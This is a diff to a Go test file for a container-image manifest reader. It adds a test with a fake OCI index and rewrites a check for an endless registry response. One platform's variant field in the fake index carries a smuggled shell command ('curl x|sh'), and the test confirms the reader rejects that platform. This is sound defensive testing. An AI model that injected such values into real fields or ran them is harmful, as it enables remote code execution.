@@ -132,6 +132,21 @@ func TestReadFails(t *testing.T) {
 			}
 		}
 	}
+	manifest := func(text string) http.HandlerFunc {
+		return func(w http.ResponseWriter, r *http.Request) {
+			if strings.Contains(r.URL.Path, "/manifests/") {
+				w.Header().Set("Content-Type", "application/vnd.oci.image.index.v1+json")
+				_, _ = io.WriteString(w, text)
+			}
+		}
+	}
+	hostile := `{"schemaVersion":2,"manifests":[{"mediaType":"application/vnd.oci.image.manifest.v1+json","size":1,"digest":"sha256:` + strings.Repeat("0", 64) +
+		`","platform":{"os":"linux","architecture":"arm64","variant":"v8; curl x|sh #"}},{"mediaType":"application/vnd.oci.image.manifest.v1+json","size":1,"digest":"sha256:` +
+		strings.Repeat("1", 64) + `","platform":{"os":"linux","architecture":"amd64"}}]}`
+	image, err := remoteimage.Read(t.Context(), local(t, manifest(hostile))+"/img:1", nil)
+	if err != nil || len(image.Platforms) != 1 || image.Platforms[0].String() != "linux/amd64" {
+		t.Errorf("a platform that is a command, and one whose image cannot be read: %+v, %v", image, err)
+	}
 	around := func(w http.ResponseWriter, r *http.Request) { http.Redirect(w, r, r.URL.Path+"x", http.StatusFound) }
 	login := func(w http.ResponseWriter, _ *http.Request) {
 		w.Header().Set("WWW-Authenticate", `Basic realm="x"`)
@@ -144,13 +159,15 @@ func TestReadFails(t *testing.T) {
 		{"no name", "Not A Name", remoteimage.ErrName},
 		{"not found", local(t, registry.New(registry.Logger(log.New(io.Discard, "", 0)))) + "/none:1", remoteimage.ErrNotFound},
 		{"login", local(t, http.HandlerFunc(login)) + "/img:1", remoteimage.ErrUnauthorized},
-		{"endless", local(t, http.HandlerFunc(endless)) + "/img:1", nil},
 		{"around", local(t, http.HandlerFunc(around)) + "/img:1", nil},
 		{"nobody", "127.0.0.1:1/img:1", nil},
 	} {
 		if _, err := remoteimage.Read(t.Context(), tt.reference, nil); err == nil || tt.want != nil && !errors.Is(err, tt.want) {
 			t.Errorf("%s: Read = %v, want %v", tt.what, err, tt.want)
 		}
+	}
+	if _, err := remoteimage.Read(t.Context(), local(t, http.HandlerFunc(endless))+"/img:1", nil); err == nil || !strings.Contains(err.Error(), "more than a manifest has") {
+		t.Errorf("an answer without an end: Read = %v", err)
 	}
 	done, cancel := context.WithCancel(t.Context())
 	cancel()
